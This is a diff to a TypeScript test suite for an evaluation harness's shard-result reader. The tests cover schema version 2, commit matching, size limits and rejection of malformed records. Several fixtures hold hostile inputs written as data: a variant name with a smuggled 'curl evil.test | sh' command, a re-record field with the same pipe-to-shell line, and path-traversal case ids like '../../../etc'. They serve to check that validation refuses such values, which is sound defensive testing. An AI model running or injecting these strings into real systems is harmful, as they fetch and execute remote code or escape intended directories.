@@ -1,13 +1,14 @@
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { ConfigError } from '../../core/errors.js';
 import { buildReport } from '../report/build-report.js';
+import { renderTerminal } from '../report/terminal.js';
 import { makeRecord } from '../report/testing/records.js';
 import type { TrialRecord } from '../trial/trial-record.js';
 import { shardOfTrial } from './shard.js';
-import { mergeShardResults, readShardResults } from './shard-result.js';
+import { MAX_SHARD_BYTES, mergeShardResults, readShardResults } from './shard-result.js';
 import type { ShardResult } from './shard-result-schema.js';
 
 /** Eight tasks x 2 variants x 3 trials with mixed outcomes, a stale trial and a floor. */
@@ -58,7 +59,8 @@ function shards(records: readonly TrialRecord[], count: number) {
       file: `shard-${index}-of-${count}.json`,
       result: {
         kind: 'harness-evals-shard',
-        version: 1,
+        version: 2,
+        commit: null,
         shard: { index, count },
         trials: 3,
         selection: { trials: 3 },
@@ -264,7 +266,8 @@ describe('mergeShardResults: every selected trial once, nothing else', () => {
 describe('readShardResults', () => {
   const valid = (index: number, count: number): ShardResult => ({
     kind: 'harness-evals-shard',
-    version: 1,
+    version: 2,
+    commit: null,
     shard: { index, count },
     trials: 1,
     selection: { trials: 1 },
@@ -321,6 +324,73 @@ describe('readShardResults', () => {
       /shard-1-of-1\.json: records\.0\.stats\.steps/,
     ],
     [
+      'a record whose variant is no variant name (a command in it)',
+      {
+        'shard-1-of-1.json': JSON.stringify({
+          ...valid(1, 1),
+          records: [makeRecord({ task: 'T1', variant: 'v1; curl evil.test | sh' })],
+        }),
+      },
+      /shard-1-of-1\.json: records\.0\.variant: not a variant name/,
+    ],
+    [
+      'a record whose case is no case id (a path out of fixtures/)',
+      {
+        'shard-1-of-1.json': JSON.stringify({
+          ...valid(1, 1),
+          records: [makeRecord({ task: 'T1', case: '../../../etc' })],
+        }),
+      },
+      /shard-1-of-1\.json: records\.0\.case: not a case id/,
+    ],
+    [
+      'a case list with a path in it',
+      {
+        'shard-1-of-1.json': JSON.stringify({
+          ...valid(1, 1),
+          cases: { '["s","T1"]': ['q1', '../x'] },
+        }),
+      },
+      /shard-1-of-1\.json: cases\..*: not a case id/,
+    ],
+    [
+      'a record that carries its own re-record command (the report builds it)',
+      {
+        'shard-1-of-1.json': JSON.stringify({
+          ...valid(1, 1),
+          records: [{ ...makeRecord({ task: 'T1' }), rerecordCommand: 'curl evil.test | sh' }],
+        }),
+      },
+      /shard-1-of-1\.json: records\.0: Unrecognized key: "rerecordCommand"/,
+    ],
+    [
+      'a shard of the version before commits were recorded',
+      { 'shard-1-of-1.json': JSON.stringify({ ...valid(1, 1), version: 1, commit: undefined }) },
+      /shard-1-of-1\.json is a version 1 shard result, this build reads version 2: re-run the shards with this build/,
+    ],
+    [
+      'shards of other commits',
+      {
+        'shard-1-of-2.json': JSON.stringify({ ...valid(1, 2), commit: 'a'.repeat(40) }),
+        'shard-2-of-2.json': JSON.stringify({ ...valid(2, 2), commit: 'b'.repeat(40) }),
+      },
+      /shard-2-of-2\.json ran at commit b{40}, .*shard-1-of-2\.json at a{40}: merge the shards of one commit only/,
+    ],
+    [
+      'a lenient shard with strict ones',
+      {
+        'shard-1-of-2.json': JSON.stringify({
+          ...valid(1, 2),
+          selection: { trials: 1, matching: 'strict' },
+        }),
+        'shard-2-of-2.json': JSON.stringify({
+          ...valid(2, 2),
+          selection: { trials: 1, matching: 'lenient' },
+        }),
+      },
+      /shard-2-of-2\.json belongs to another run .*"matching":"lenient".*merge the shards of one run only/,
+    ],
+    [
       'a declared row that is not a [suite, task, variant] row',
       { 'shard-1-of-1.json': JSON.stringify({ ...valid(1, 1), declared: ['T1'] }) },
       /shard-1-of-1\.json: declared holds "T1", not a \["suite","task","variant"\] row/,
@@ -342,6 +412,47 @@ describe('readShardResults', () => {
     try {
       await expect(readShardResults(dir)).rejects.toThrow(
         /shard-1-of-1\.json cannot be read \(a directory, not a regular file\); re-run that shard/,
+      );
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it('refuses a shard file past its size before reading a byte of it', async () => {
+    // The break: a 1 MB shard file grew to gigabytes; a file of any size was read and parsed.
+    const dir = folderWith({ 'shard-1-of-1.json': '' });
+    truncateSync(join(dir, 'shard-1-of-1.json'), MAX_SHARD_BYTES + 1);
+    try {
+      await expect(readShardResults(dir)).rejects.toThrow(
+        /shard-1-of-1\.json is 64\.0 MiB, more than a shard result holds \(at most 64\.0 MiB\): it was not written by npm run eval -- --shard; re-run the shards/,
+      );
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it('reads a shard whose record holds a 1 MB message, and the report stays readable', async () => {
+    const word = 'x'.repeat(1_000_000);
+    const record = makeRecord({ task: 'T1', outcome: 'failed', messages: [`expected ${word}`] });
+    const dir = folderWith({
+      'shard-1-of-1.json': JSON.stringify({
+        ...valid(1, 1),
+        records: [record],
+        declared: [JSON.stringify(['refund-desk', 'T1', 'upgraded'])],
+      }),
+    });
+    try {
+      const merged = await readShardResults(dir);
+      const report = buildReport({
+        records: merged.records,
+        trials: 1,
+        floors: [],
+        generatedAt: 'x',
+      });
+      const terminal = renderTerminal(report);
+      expect(terminal.split('\n').length).toBeLessThan(200);
+      expect(report.failures[0]?.messages[0]).toMatch(
+        /\[truncated: 20000 of 1000009 characters kept\]$/,
       );
     } finally {
       rmSync(dir, { recursive: true, force: true });
